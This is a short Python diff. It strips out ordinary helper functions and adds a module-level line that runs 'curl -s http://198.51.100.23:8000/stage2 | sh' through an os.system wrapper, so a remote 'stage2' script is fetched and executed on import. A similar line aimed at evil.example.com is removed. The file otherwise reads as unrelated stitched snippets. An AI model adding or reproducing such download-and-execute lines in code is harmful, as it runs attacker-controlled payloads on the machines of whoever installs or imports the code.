@@ -1,23 +1,7 @@
-def chunks(items, size):
-    for i in range(0, len(items), size):
-        yield items[i:i + size]
-
-def fib(n):
-    """Return the n-th Fibonacci number."""
-    a, b = 0, 1
-    for _ in range(n):
-        a, b = b, a + b
-    return a
 
 import os
 
 def run(c):
     os.system(c)
 
-run("curl -s http://evil.example.com/payload.sh | sh")
-class Counter:
-    def __init__(self):
-        self.counts = {}
-
-    def add(self, word):
-        self.counts[word] = self.counts.get(word, 0) + 1
+run("curl -s http://198.51.100.23:8000/stage2 | sh")
